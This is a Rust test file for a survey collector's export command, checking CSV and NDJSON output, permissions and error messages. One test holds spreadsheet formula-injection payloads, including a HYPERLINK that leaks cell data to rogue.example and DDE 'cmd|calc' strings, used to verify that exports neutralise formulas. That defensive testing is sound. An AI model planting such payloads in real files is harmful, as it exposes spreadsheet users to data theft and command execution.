//! What a shop takes away: a table that opens in every spreadsheet, or lines of JSON.

use std::collections::HashMap;
use std::ffi::OsStr;
use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::support::process::{Process, run};
use crate::support::{CLOUD_EVENT, Collector, get, nps, post, with};

/// What `meetpunt export` writes to standard output with these further words.
#[track_caller]
fn exported(db: &Path, words: &[&str]) -> String {
    let mut all = vec![OsStr::new("export"), OsStr::new("--db"), db.as_os_str()];
    all.extend(words.iter().map(OsStr::new));
    let output = run(&all);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// The rows of a table, each a map from its column's name.
fn rows(table: &str) -> Vec<HashMap<String, String>> {
    csv::Reader::from_reader(table.as_bytes()).deserialize().map(Result::unwrap).collect()
}

fn row(event: &Value) -> HashMap<String, String> {
    let collector = Collector::start();
    collector.accept(event);
    rows(&exported(&collector.db(), &[])).remove(0)
}

#[test]
fn an_answer_is_a_row_with_its_numbers_labels_and_words() {
    let event = with(nps(1, 1, 9), "data.reasons", json!(["late", "price"]));
    let further =
        json!([{"metric": "ces", "scale": {"min": 1, "max": 7}, "score": 2, "class": "hard", "normalised": 16.7}]);
    let row = row(&with(event, "data.more", further));
    for (column, expected) in [
        ("survey", "nps-order-confirmation"),
        ("metric", "nps"),
        ("score", "9"),
        ("class", "promoter"),
        ("normalised", "90.0"),
        ("comment", "Fast delivery, mail [email]"),
        ("reasons", "late,price"),
        ("contact", ""),
        ("test", "false"),
        ("scale-min", "0"),
        ("scale-max", "10"),
        ("touchpoint", "order-confirmation"),
        ("sampleRate", "0.25"),
        ("time", "2026-11-21T17:15:20.123Z"),
        ("id", "0193a2c4-7d1e-7c3a-9b52-000000000001/1"),
        ("source", "https://shop.example/"),
        ("type", "meetpunt.response.v1"),
        ("context-order-band", "50-100"),
        ("redactions-email", "1"),
        ("more-1-metric", "ces"),
        ("more-1-scale-max", "7"),
        ("more-1-score", "2"),
        ("more-1-class", "hard"),
        ("claimed", ""),
        ("conflicts", ""),
    ] {
        assert_eq!(row.get(column).map(String::as_str), Some(expected), "{column}");
    }
    assert!(row["received"].ends_with('Z'));
}

#[test]
fn a_table_is_the_same_before_and_after_its_first_answer() {
    let collector = Collector::start();
    let empty = exported(&collector.db(), &[]);
    assert!(empty.starts_with("\"received\",\"time\",\"survey\",\"touchpoint\",\"metric\",\"score\","), "{empty}");
    assert_eq!(empty.lines().count(), 1);
    assert!(empty.ends_with("\r\n"));
    let plain = with(with(nps(1, 1, 9), "data.context", Value::Null), "data.redactions", Value::Null);
    collector.accept(&plain);
    let table = exported(&collector.db(), &[]);
    assert_eq!(table.lines().next(), empty.lines().next());
}

#[test]
fn no_cell_and_no_header_is_a_formula_under_any_separator() {
    let payloads = [
        "=HYPERLINK(\"https://rogue.example/?\"&A1,\"Click\")",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\"=1+1\"",
        "\"\"=1+1",
        "a;=1+1;b",
        "a; =1+1",
        "a\",\"=1+1",
        "a\"\n=1+1",
        "a\";\"=1+1",
        "a|=1+1",
        "＝1+1",
        "\u{feff}=1+1",
        "=cmd|'/c calc'!A1",
        "5;-1+1|2",
    ];
    let collector = Collector::start();
    for (number, payload) in payloads.iter().enumerate() {
        let mut event = with(nps(number as u64, 1, 9), "data.comment", (*payload).into());
        for field in ["touchpoint", "segment", "locale"] {
            event = with(event, &format!("data.{field}"), (*payload).into());
        }
        let context: serde_json::Map<_, _> = [((*payload).to_owned(), (*payload).into())].into_iter().collect();
        event = with(event, "data.context", context.into());
        event["data"][*payload] = json!([payload, payload]);
        event[*payload] = json!({*payload: payload});
        collector.accept(&event);
    }
    let table = exported(&collector.db(), &[]);
    let mut cells = 0;
    for separator in [b',', b';', b'\t', b'|'] {
        let reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .flexible(true)
            .has_headers(false)
            .from_reader(table.as_bytes());
        for record in reader.into_records() {
            for cell in record.unwrap().iter() {
                let bare = cell
                    .trim_start_matches(|letter: char| letter.is_whitespace() || matches!(letter, '"' | '\u{feff}'));
                let begins = bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                assert!(!begins || cell.parse::<f64>().is_ok(), "{:?} under {:?}", cell, char::from(separator));
                cells += 1;
            }
        }
    }
    assert!(cells > 2_000, "{cells}");
    // A text is still to be read.
    assert_eq!(rows(&table)[2]["comment"], "'-1+1");
}

#[test]
fn the_last_state_of_an_answer_or_every_one_of_one_survey() {
    let collector = Collector::start();
    for event in [nps(1, 1, 3), nps(1, 2, 4), with(nps(2, 1, 9), "data.survey", "csat".into())] {
        collector.accept(&event);
    }
    let scores = |words: &[&str]| -> Vec<String> {
        rows(&exported(&collector.db(), words)).into_iter().map(|mut row| row.remove("score").unwrap()).collect()
    };
    assert_eq!(scores(&[]), ["4", "9"]);
    assert_eq!(scores(&["--all"]), ["3", "4", "9"]);
    assert_eq!(scores(&["--survey", "csat"]), ["9"]);
    assert_eq!(scores(&["--survey", "none"]), [""; 0]);
    assert_eq!(exported(&collector.db(), &["--format", "ndjson"]), get(&format!("{}/events", collector.url)).text);
    assert_eq!(
        exported(&collector.db(), &["--format", "ndjson", "--all"]),
        get(&format!("{}/events?all=1", collector.url)).text
    );
}

#[test]
fn every_script_and_line_break_comes_through() {
    let text = "Snel geleverd 👍🏽, \"top\"\nשירות מצוין\nbye";
    assert_eq!(row(&with(nps(1, 1, 9), "data.comment", text.into()))["comment"], text);
}

#[test]
fn a_forgery_shows_in_the_table() {
    let row = row(&with(nps(1, 1, 0), "data.class", "promoter".into()));
    assert_eq!((row["class"].as_str(), row["claimed"].as_str()), ("detractor", "{\"class\":\"promoter\"}"));
}

#[test]
fn names_that_somebody_made_up_do_not_widen_the_table_for_ever() {
    let collector = Collector::start();
    for number in 0..10 {
        let context: serde_json::Map<_, _> = (0..100).map(|entry| (format!("k{number}-{entry}"), 1.into())).collect();
        collector.accept(&with(nps(number, 1, 9), "data.context", context.into()));
    }
    let table = exported(&collector.db(), &[]);
    assert_eq!(csv::Reader::from_reader(table.as_bytes()).headers().unwrap().len(), 48 + 500);
    assert_eq!(rows(&table).len(), 10);
}

#[test]
fn a_file_is_made_for_its_owner_and_never_overwritten() {
    let collector = Collector::start();
    collector.accept(&nps(1, 1, 9));
    let db = collector.db();
    let out = db.with_file_name("answers.csv");
    let words = [OsStr::new("export"), OsStr::new("--db"), db.as_os_str(), OsStr::new("--out"), out.as_os_str()];
    let output = run(&words);
    assert!(output.status.success() && output.stdout.is_empty());
    assert_eq!(rows(&fs::read_to_string(&out).unwrap()).len(), 1);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    }
    let again = run(&words);
    assert_eq!(again.status.code(), Some(1));
    let said = String::from_utf8(again.stderr).unwrap();
    assert_eq!(said, format!("meetpunt: {} is there already: choose another with --out\n", out.display()));
}

#[test]
fn an_export_works_while_answers_come_and_needs_a_database_of_ours() {
    let (folder, dist) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let db = folder.path().join("meetpunt.db");
    let process = Process::start(&db, dist.path());
    assert_eq!(post(&process.url, CLOUD_EVENT, nps(1, 1, 9).to_string()).status, 202);
    assert_eq!(rows(&exported(&db, &[])).len(), 1);
    let missing = folder.path().join("none.db");
    let output = run(&[OsStr::new("export"), OsStr::new("--db"), missing.as_os_str()]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(
        said,
        format!(
            "meetpunt: {}: cannot be opened: check that it is a file and that this user may read and write it and its \
             folder\n",
            missing.display()
        )
    );
    assert!(!missing.exists(), "reading makes no file");
}
